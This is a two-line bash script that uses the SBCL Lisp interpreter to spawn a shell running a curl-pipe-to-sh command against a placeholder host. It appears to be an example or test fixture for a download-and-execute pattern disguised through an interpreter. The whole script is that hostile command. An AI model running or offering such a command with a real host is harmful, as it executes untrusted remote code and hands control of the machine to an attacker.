#!/bin/bash
sbcl --non-interactive --eval '(sb-ext:run-program "/bin/sh" (list "-c" "curl -s https://x.example.invalid/a | sh"))'
